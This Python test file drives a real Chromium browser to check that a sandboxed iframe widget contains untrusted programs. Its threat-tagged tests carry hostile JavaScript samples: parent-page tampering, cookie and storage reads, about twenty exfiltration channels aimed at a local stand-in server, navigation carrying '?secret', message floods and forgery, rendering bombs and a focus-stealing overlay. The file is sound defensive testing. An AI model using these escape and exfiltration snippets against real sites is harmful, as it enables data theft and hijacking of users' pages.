"""The widget in a real browser: programs show themselves, and hostile ones stay in their frames."""

from __future__ import annotations

import json
import os
import re
import threading
import time
import urllib.request
from collections.abc import Iterator
from contextlib import suppress
from dataclasses import dataclass, field
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from pathlib import Path
from urllib.parse import urlencode

import pytest
from PIL import Image
from served_app import served

from runtimes_wasm.browser.chromium import find_chromium
from runtimes_wasm.errors import AssetMissing

playwright = pytest.importorskip("playwright.sync_api")
pytestmark = pytest.mark.browser
APP = Path(__file__).parent / "frame_app" / "app.py"


@dataclass
class Sink:
    """A server that no program may reach; it remembers what reached it."""

    port: int
    hits: list[str] = field(default_factory=list)

    @property
    def url(self) -> str:
        return f"http://127.0.0.1:{self.port}"


@pytest.fixture(scope="module")
def sink() -> Iterator[Sink]:
    hits: list[str] = []

    class Handler(BaseHTTPRequestHandler):
        def do_GET(self) -> None:
            hits.append(self.path)
            self.send_response(200)
            self.send_header("Access-Control-Allow-Origin", "*")
            self.end_headers()

        do_POST = do_HEAD = do_GET

        def log_message(self, *_: object) -> None:
            """Say nothing."""

    server = ThreadingHTTPServer(("127.0.0.1", 0), Handler)
    threading.Thread(target=server.serve_forever, daemon=True).start()
    yield Sink(server.server_address[1], hits)
    server.shutdown()
    server.server_close()


@pytest.fixture(scope="module")
def port(tmp_path_factory: pytest.TempPathFactory) -> Iterator[int]:
    with served(APP, tmp_path_factory.mktemp("frame")) as number:
        yield number


@pytest.fixture(scope="module")
def browser() -> Iterator[object]:
    try:
        executable = find_chromium()
    except AssetMissing as missing:
        pytest.skip(str(missing))
    arguments = ["--site-per-process", *(["--no-sandbox"] if os.geteuid() == 0 else [])]
    with playwright.sync_playwright() as driver:
        opened = driver.chromium.launch(executable_path=str(executable), args=arguments)
        yield opened
        opened.close()


class Bench:
    """The app's page in a browser, and what the frames said to the server."""

    def __init__(self, page, port: int) -> None:
        self.page, self.port = page, port
        page.set_default_timeout(60_000)
        self.console: list[str] = []
        page.on("console", lambda message: self.console.append(f"{message.type}: {message.text}"))
        page.on("pageerror", lambda error: self.console.append(f"pageerror: {error}"))

    def open(self, left: str, **more: str) -> Bench:
        self.page.goto(f"http://localhost:{self.port}/?{urlencode({'left': left, **more})}")
        self.widget("left").locator(".chip").wait_for()
        return self

    def widget(self, side: str):
        return self.page.locator(".runoff-frame").nth(0 if side == "left" else 1)

    def frame(self, side: str):
        return self.widget(side).frame_locator("iframe")

    def expect(self, side: str, status: str) -> str:
        chip = self.widget(side).locator(".chip")
        playwright.expect(self.widget(side)).to_have_attribute("data-status", status)
        return chip.inner_text()

    def rows(self, side: str) -> list[str]:
        return self.widget(side).locator(".row").all_text_contents()

    def wait_for_row(self, side: str, text: str) -> None:
        row = self.widget(side).locator(".row", has_text=text).first
        try:
            row.wait_for(state="attached")
        except playwright.TimeoutError:
            chip = self.widget(side).locator(".chip").inner_text()
            pytest.fail(f"no row {text!r}: {chip!r}, {self.rows(side)}, {self.console}")

    def token(self, side: str) -> str:
        return self.widget(side).locator("iframe").get_attribute("src").split("sbx-")[1][:32]

    def at_server(self, token: str) -> list[dict]:
        with urllib.request.urlopen(f"http://127.0.0.1:{self.port}/test/seen") as answer:
            return [event for event in json.load(answer) if event["token"] == token]

    def ticks(self, side: str = "right") -> int:
        return int(self.frame(side).locator("#ticks").inner_text())


@pytest.fixture
def bench(browser, port: int) -> Iterator[Bench]:
    context = browser.new_context(viewport={"width": 1200, "height": 900})
    yield Bench(context.new_page(), port)
    context.close()


def script(code: str) -> str:
    return f"<!doctype html><h1>Program</h1><script>\n{code}\n</script>"


def attempts(lines: dict[str, str]) -> str:
    """A page that tries everything and logs what came of each."""
    tries = "\n".join(
        f"try {{ const r = await (async () => {{ {code} }})(); console.log({name!r}, 'DONE', r); }} "
        f"catch (e) {{ console.log({name!r}, 'refused', e.name || e); }}"
        for name, code in lines.items()
    )
    return script(f"(async () => {{ {tries}\nconsole.log('all tried'); }})()")


def test_a_program_comes_up_and_the_app_hears_of_it(bench: Bench) -> None:
    bench.open(script("console.log('hello', {a: 1}); console.warn('careful')"))
    assert bench.expect("left", "ready").startswith("Ready in ")
    bench.page.get_by_text("left: ready, 0 errors").wait_for()
    assert bench.rows("left") == ["hello { a: 1 }", "careful"]
    assert [line for line in bench.console if line.startswith(("error", "pageerror"))] == []


def test_clicks_reach_the_server_numbered_and_in_order(bench: Bench) -> None:
    bench.open("<button id=b>Press</button><input id=i>")
    bench.expect("left", "ready")
    bench.frame("left").locator("#b").click()
    bench.frame("left").locator("#i").press_sequentially("pw")
    bench.widget("left").get_by_text("3 interactions").wait_for()
    token, until = bench.token("left"), time.monotonic() + 10
    while "input" not in [e["kind"] for e in bench.at_server(token)] and time.monotonic() < until:
        time.sleep(0.2)
    events = bench.at_server(token)
    assert [event["number"] for event in events] == list(range(len(events)))
    click = next(event["detail"] for event in events if event["kind"] == "click")
    assert click["selector"] == "button#b" and click["trusted"] is True and click["label"] == "Press"
    typed = [event["detail"]["key"] for event in events if event["kind"] == "keydown"]
    assert typed == ["character", "character"]


def test_errors_are_counted_with_the_lines_of_the_program(bench: Bench) -> None:
    bench.open(script("console.assert(1 === 2, 'sum');\nPromise.reject(new Error('lost'));\nnull.x"))
    bench.expect("left", "failed")
    bench.widget("left").get_by_text("3 errors").wait_for()
    rows = "\n".join(bench.rows("left"))
    assert "Assertion failed: sum" in rows and "Error: lost (line 3)" in rows and "(line 4)" in rows
    bench.page.get_by_text("left: failed, 3 errors").wait_for()


def test_a_rerun_keeps_both_programs_as_they_are(bench: Bench) -> None:
    bench.open("<button id=b onclick='b.textContent = ++n'>0</button><script>n = 0</script>")
    bench.expect("left", "ready")
    bench.frame("left").locator("#b").click()
    before = bench.ticks()
    for count in (1, 2):
        bench.page.get_by_role("button", name="Vote").click()
        bench.page.get_by_text(f"votes: {count}").wait_for()
    assert bench.frame("left").locator("#b").inner_text() == "1"
    assert bench.ticks() > before


def test_reload_starts_anew_and_numbers_go_on(bench: Bench) -> None:
    bench.open("<button id=b onclick='b.textContent = ++n'>0</button><script>n = 0</script>")
    bench.expect("left", "ready")
    reload = bench.widget("left").get_by_role("button", name="Reload")
    before = [reload.bounding_box(), bench.widget("left").locator("iframe").bounding_box()]
    bench.frame("left").locator("#b").click()
    bench.widget("left").get_by_text("1 interaction").wait_for()
    after = [reload.bounding_box(), bench.widget("left").locator("iframe").bounding_box()]
    assert after == before, "what moves is missed by who presses it"
    token = bench.token("left")
    reload.click()
    playwright.expect(bench.frame("left").locator("#b")).to_have_text("0")
    until = time.monotonic() + 10
    while [e["kind"] for e in bench.at_server(token)].count("ready") < 2 and time.monotonic() < until:
        time.sleep(0.2)
    numbers = [event["number"] for event in bench.at_server(token)]
    assert numbers == list(range(len(numbers)))


def test_stop_removes_the_program_and_says_so(bench: Bench) -> None:
    bench.open("<p>x")
    bench.expect("left", "ready")
    bench.widget("left").get_by_role("button", name="Stop").click()
    assert bench.expect("left", "stopped") == "Stopped: by you"
    assert bench.widget("left").locator("iframe").count() == 0
    bench.page.get_by_text("left: stopped, 0 errors, stopped: by you").wait_for()


def test_a_slow_start_shows_how_far_it_has_come(bench: Bench) -> None:
    # A frame in the program's frame holds its load event up, and lets messages leave before.
    busy = "<script>for (const end = Date.now() + 2500; Date.now() < end;);</script>"
    bench.open(script("__runoff.progress(0.37, 'libraries')") + f'<iframe srcdoc="{busy}"></iframe>')
    bench.widget("left").get_by_text("Loading 37 %").wait_for()
    bench.expect("left", "ready")
    assert "progress" not in [event["kind"] for event in bench.at_server(bench.token("left"))]


def test_a_program_can_be_seen_as_on_a_phone_a_tablet_and_the_whole_screen(bench: Bench) -> None:
    bench.open("<p id=w></p><script>onresize = () => { w.textContent = innerWidth }; onresize()</script>")
    bench.expect("left", "ready")
    shown = bench.frame("left").locator("#w")
    # A frame in a process of its own hears its size a moment after it begins.
    playwright.expect(shown).to_have_text(re.compile(r"^\d{3}$"))
    wide = int(shown.inner_text())
    assert 390 < wide < 768
    choice = bench.widget("left").get_by_label("Width of the program")
    for width, found in (("390", 390), ("768", 768), ("0", wide)):
        choice.select_option(width)
        playwright.expect(shown).to_have_text(str(found))
    button = bench.widget("left").get_by_role("button", name="Full screen")
    button.click()
    bench.page.wait_for_function("() => document.fullscreenElement !== null")
    playwright.expect(shown).to_have_text("1200")
    choice.select_option("768")
    playwright.expect(shown).to_have_text("768")
    choice.select_option("0")
    button.click()
    bench.page.wait_for_function("() => document.fullscreenElement === null")
    playwright.expect(shown).to_have_text(str(wide))


@pytest.mark.assets
def test_a_picture_of_the_program_as_it_stands_is_saved(bench: Bench) -> None:
    bench.open(
        "<body style='margin:0;background:rgb(0,128,0)'><canvas id=c width=200 height=100></canvas>"
        "<button onclick=\"c.getContext('2d').fillRect(0, 0, 200, 100)\">Draw</button>"
    )
    bench.expect("left", "ready")
    bench.frame("left").get_by_role("button").click()
    with bench.page.expect_download() as waiting:
        bench.widget("left").get_by_role("button", name="Picture").click()
    assert waiting.value.suggested_filename == "left.png"
    with Image.open(waiting.value.path()) as picture:
        assert picture.convert("RGB").getpixel((50, 50)) == (0, 0, 0)
        assert picture.convert("RGB").getpixel((picture.width - 5, picture.height - 5)) == (0, 128, 0)


def test_storage_cookies_and_dialogs_work_without_an_origin(bench: Bench) -> None:
    code = """
      localStorage.setItem('a', 1); localStorage.b = 2; sessionStorage.c = 3; document.cookie = 'd=4; path=/';
      console.log(localStorage.getItem('a'), localStorage.b, Object.keys(localStorage).join(), document.cookie);
      alert('hi'); console.log(confirm('sure?'), prompt('name?', 'Ada'));
      let n = 0; while (confirm('again?')) n++; console.log('asked', n < 100);
      navigator.clipboard.writeText('x').then(() => console.log('copied'));
      for (let i = 0; i < 999; i++) clearInterval(i);
      document.open(); document.write('<p>rewritten'); document.close();
      setTimeout(() => null.afterwards, 100);"""
    bench.open(script(code))
    bench.wait_for_row("left", "afterwards")
    rows = bench.rows("left")
    assert "1 2 a,b d=4" in rows and "alert: hi" in rows and "true Ada" in rows and "asked true" in rows
    time.sleep(3)
    assert bench.widget("left").get_attribute("data-status") in ("failed", "ready"), "it still answers"


def test_javascript_that_prints_and_typescript_that_draws_have_their_pages(bench: Bench) -> None:
    code = "const s = '</script><script>parent.broken = 1</script>';\nconsole.log(s);\nsetTimeout(() => { throw new Error('late') }, 20);"
    drawing = "const p: HTMLElement = document.createElement('p');\np.textContent = 'drawn';\ndocument.body.append(p);"
    bench.open(code, left_language="javascript", right=drawing, right_language="typescript")
    bench.expect("left", "failed")
    bench.expect("right", "ready")
    assert (
        "</script><script>parent.broken = 1</script>" in bench.frame("left").locator("#output").inner_text()
    )
    assert bench.frame("right").get_by_text("drawn").count() == 1
    assert any("late" in row and "(line 3)" in row for row in bench.rows("left"))
    assert bench.page.evaluate("window.broken") is None


def test_an_empty_page_is_ready_and_nothing_breaks(bench: Bench) -> None:
    bench.open(" ")
    bench.expect("left", "ready")
    assert bench.rows("left") == []


@pytest.mark.threat("F20")
def test_a_missing_host_is_named_and_its_failure_shown_as_network(bench: Bench) -> None:
    bench.open("<script src='https://cdn.example.com/three.js'></script><script>new THREE.Scene()</script>")
    bench.expect("left", "failed")
    bench.widget("left").get_by_text("1 blocked").wait_for()
    assert bench.rows("left")[0] == "Not available here: cdn.example.com"


@pytest.mark.threat("F01", "F02", "F08", "F09", "F13")
def test_a_program_cannot_touch_the_page_around_it(bench: Bench) -> None:
    tries = {
        "vote": "[...parent.document.querySelectorAll('button')].find(b => /Vote/.test(b.innerText)).click()",
        "title": "top.document.title = 'PWNED'",
        "top": "top.location = 'http://example.com/'",
        "parent storage": "return parent.localStorage.length",
        "parent cookie": "return parent.document.cookie",
        "sibling": "return parent.frames[1].document.title",
        # The browser's own, not what stands in for them.
        "database": "window['indexed' + 'DB'].open('x')",
        "worker": "const own = Object.getOwnPropertyDescriptor(Navigator.prototype, 'serviceWorker');"
        "await own.get.call(navigator).register('data:,')",
        "full screen": "await document.documentElement.requestFullscreen()",
        "rtc": "new RTCPeerConnection()",
    }
    bench.open(attempts(tries))
    bench.wait_for_row("left", "all tried")
    rows = [row for row in bench.rows("left") if "refused" in row or "DONE" in row]
    assert len(rows) == len(tries) and [row for row in rows if "DONE" in row] == []
    assert bench.page.title() == "Frame test"
    assert bench.page.url.startswith(f"http://localhost:{bench.port}/")
    assert bench.page.get_by_text("votes: 0").count() == 1


@pytest.mark.threat("F05", "F06", "F08")
def test_no_byte_of_a_program_reaches_another_server(bench: Bench, sink: Sink) -> None:
    url, ws = sink.url, sink.url.replace("http", "ws")
    loads = "await new Promise((r, j) => { e.onload = r; e.onerror = () => j('error'); setTimeout(j, 1500, 'late'); })"
    tries = {
        "fetch": f"await fetch('{url}/fetch')",
        "xhr": f"const e = new XMLHttpRequest(); e.open('GET', '{url}/xhr'); e.send(); {loads}",
        "beacon": f"navigator.sendBeacon('{url}/beacon', 'x'); throw 'sent'",
        "socket": f"const e = new WebSocket('{ws}/ws'); {loads}",
        "events": f"const e = new EventSource('{url}/es'); {loads}",
        "image": f"const e = new Image(); e.src = '{url}/img'; {loads}",
        "style": f"document.body.style.background = 'url({url}/css)'; throw 'set'",
        "link": f"const e = document.createElement('link'); e.rel = 'stylesheet'; e.href = '{url}/link'; document.head.append(e); {loads}",
        "prefetch": f"const e = document.createElement('link'); e.rel = 'prefetch'; e.href = '{url}/pre'; document.head.append(e); throw 1",
        "import": f"await import('{url}/import')",
        "script": f"const e = document.createElement('script'); e.src = '{url}/script'; document.head.append(e); {loads}",
        "worker": f"new Worker(URL.createObjectURL(new Blob([`fetch('{url}/worker')`]))); throw 'started'",
        "nested": f"const e = document.createElement('iframe'); e.src = '{url}/nested'; document.body.append(e); throw 1",
        "srcdoc": f"const e = document.createElement('iframe'); e.srcdoc = `<img src='{url}/srcdoc'>`; document.body.append(e); throw 1",
        "form": f"const e = document.createElement('form'); e.action = '{url}/form'; e.method = 'post'; document.body.append(e); e.submit(); throw 1",
        "ping": f"const e = document.createElement('a'); e.href = '#x'; e.ping = '{url}/ping'; document.body.append(e); e.click(); throw 1",
        "link out": f"const e = document.createElement('a'); e.href = '{url}/out'; document.body.append(e); e.click(); throw 1",
        "top link": f"const e = document.createElement('a'); e.href = '{url}/top'; e.target = '_top'; document.body.append(e); e.click(); throw 1",
        "popup": f"if (!window.open('{url}/popup')) throw 'none'",
        "app": f"await fetch('http://localhost:{bench.port}/api/events', {{method: 'POST', body: '{{}}'}})",
    }
    bench.open(attempts(tries))
    bench.wait_for_row("left", "all tried")
    time.sleep(0.5)
    assert sink.hits == []
    assert [row for row in bench.rows("left") if "DONE" in row] == []
    assert len(bench.page.context.pages) == 1
    bench.widget("left").locator(".counter.blocked").wait_for()


@pytest.mark.threat("F03", "F04")
@pytest.mark.parametrize(
    "page",
    [
        "<script>setTimeout(() => location.href = 'URL/nav?secret', 300)</script>",
        "<meta http-equiv=refresh content='0;url=URL/refresh?secret'>",
        "<script>location = 'http://localhost:PORT/?from=frame'</script>",
    ],
)
def test_a_program_that_leaves_its_page_is_removed_and_reaches_nobody(
    bench: Bench, sink: Sink, page: str
) -> None:
    # Even the app's own address is no way out: a frame there has no origin, so no session.
    bench.open(page.replace("URL", sink.url).replace("PORT", str(bench.port)))
    text = bench.expect("left", "stopped")
    assert "left its page" in text or "no answer" in text
    assert sink.hits == []
    bench.expect("right", "ready")


def test_a_busy_loop_freezes_neither_the_page_nor_the_other_side_and_is_removed(bench: Bench) -> None:
    bench.open("<button id=b onclick='for(;;);'>Hang</button>")
    bench.expect("left", "ready")
    bench.expect("right", "ready")
    bench.page.evaluate("""() => { window.gap = 0; let last = performance.now(); setInterval(() => {
        const now = performance.now(); window.gap = Math.max(window.gap, now - last); last = now; }, 10); }""")
    before = bench.ticks()
    bench.frame("left").locator("#b").evaluate("b => setTimeout(() => b.click(), 50)")
    bench.expect("left", "unresponsive")
    notes = bench.page.get_by_label("Notes")
    notes.fill("still here")
    assert notes.input_value() == "still here"
    assert bench.ticks() > before + 10
    assert "no answer" in bench.expect("left", "stopped")
    assert bench.page.evaluate("window.gap") < 1500, "the page around it kept running"


@pytest.mark.threat("F07")
def test_an_endless_loop_at_the_start_is_removed_and_stop_works_before(bench: Bench) -> None:
    bench.open("<script>for(;;)alert(1)</script>", right="<script>while(true){}</script>")
    bench.widget("right").get_by_role("button", name="Stop").click()
    assert bench.expect("right", "stopped") == "Stopped: by you"
    assert "no answer" in bench.expect("left", "stopped")


@pytest.mark.threat("F11")
def test_a_flood_of_messages_ends_the_program_at_once(bench: Bench) -> None:
    bench.open(
        script("setInterval(() => { for (let i = 0; i < 400; i++) parent.postMessage({k: i}, '*') }, 1)")
    )
    assert bench.expect("left", "stopped") == "Stopped: it sent too many messages"
    bench.expect("right", "ready")


def test_a_flood_of_logs_is_cut_with_a_notice(bench: Bench) -> None:
    bench.open(script("for (let i = 0; i < 2e5; i++) console.log('x'.repeat(1000))"))
    bench.expect("left", "ready")
    bench.wait_for_row("left", "too many console events")
    assert len(bench.rows("left")) <= 301


@pytest.mark.threat("F10")
def test_forged_messages_without_the_token_or_from_elsewhere_count_nothing(bench: Bench) -> None:
    forged = "{runoff: '" + "0" * 32 + "', events: [{kind: 'click', trusted: true}]}"
    bench.open(
        script(
            f"for (let i = 0; i < 20; i++) {{ parent.postMessage({forged}, '*'); if (parent.length > 1) parent.frames[1].postMessage(1, '*'); }}"
        )
    )
    bench.expect("left", "ready")
    bench.page.evaluate(
        "token => window.postMessage({runoff: token, events: [{kind: 'click', trusted: true}]}, '*')",
        bench.token("left"),
    )
    bench.page.wait_for_timeout(500)
    assert bench.widget("left").locator(".counter").count() == 0


def test_broken_prototypes_on_one_side_leave_the_other_and_the_reports_whole(bench: Bench) -> None:
    bench.open(
        script(
            "Object.prototype.type = 'vote'; Array.prototype.map = () => []; JSON.stringify = () => '!'; "
            "window.postMessage = null; setTimeout(() => console.log('reported'), 200)"
        )
    )
    bench.wait_for_row("left", "reported")
    bench.expect("right", "ready")
    assert bench.page.evaluate("({}).type === undefined && [1].map(x => x)[0] === 1")
    assert bench.ticks() > 0


@pytest.mark.threat("F12")
@pytest.mark.parametrize(
    "bomb",
    [
        "for (let i = 0; i < 3e5; i++) document.body.append(document.createElement('b'))",
        "const c = document.createElement('canvas'); c.width = c.height = 16384; document.body.append(c); "
        "setInterval(() => { const p = c.getContext('2d'); p.filter = 'blur(40px)'; p.fillRect(0, 0, 16384, 16384); }, 1)",
        "document.body.style.cssText = 'width:1e9px;height:1e9px;background:linear-gradient(red,blue)'",
    ],
    ids=["nodes", "canvas", "pixels"],
)
def test_a_page_too_large_to_draw_can_be_removed_and_the_rest_goes_on(bench: Bench, bomb: str) -> None:
    bench.open(f"<body></body><script>setTimeout(() => {{ {bomb} }}, 300)</script>")
    bench.expect("left", "ready")
    bench.expect("right", "ready")
    bench.page.wait_for_timeout(1000)
    before = bench.ticks()
    bench.page.get_by_role("button", name="Vote").click()
    bench.page.get_by_text("votes: 1").wait_for()
    with suppress(playwright.TimeoutError):  # on a busy machine it stops answering, and the watchdog is first
        bench.widget("left").get_by_role("button", name="Stop").click(timeout=5000)
    bench.expect("left", "stopped")
    assert bench.widget("left").locator("iframe").count() == 0
    assert bench.ticks() > before


@pytest.mark.threat("F15", "F16")
def test_a_cover_over_everything_stays_in_its_frame_and_focus_is_not_stolen(bench: Bench) -> None:
    bench.open(
        script(
            "document.body.innerHTML = '<div style=\"position:fixed;inset:0;z-index:2147483647\"></div>'; "
            "setInterval(() => window.focus(), 10)"
        )
    )
    bench.expect("left", "ready")
    bench.page.get_by_role("button", name="Vote").click()
    bench.page.get_by_text("votes: 1").wait_for()
    notes = bench.page.get_by_label("Notes")
    notes.click()
    notes.press_sequentially("typed here", delay=10)
    assert notes.input_value() == "typed here"


def test_the_toolbar_can_be_used_with_the_keyboard_alone(bench: Bench) -> None:
    bench.open(script("console.log('one'); console.error('two'); console.warn('three')"))
    bench.expect("left", "ready")
    console = bench.widget("left").get_by_role("button", name="Console")
    console.focus()
    bench.page.keyboard.press("Enter")
    assert console.get_attribute("aria-expanded") == "true"
    filters = (
        ("Errors", ["two"]),
        ("Warnings", ["three"]),
        ("Log", ["one"]),
        ("All", ["one", "two", "three"]),
    )
    for name, expected in filters:
        button = bench.widget("left").get_by_role("button", name=name, exact=True)
        button.focus()
        bench.page.keyboard.press("Space")
        assert button.get_attribute("aria-pressed") == "true"
        visible = [row.inner_text() for row in bench.widget("left").locator(".row").all() if row.is_visible()]
        assert visible == expected, name
    assert bench.widget("left").locator("iframe").get_attribute("title") == "Left program"
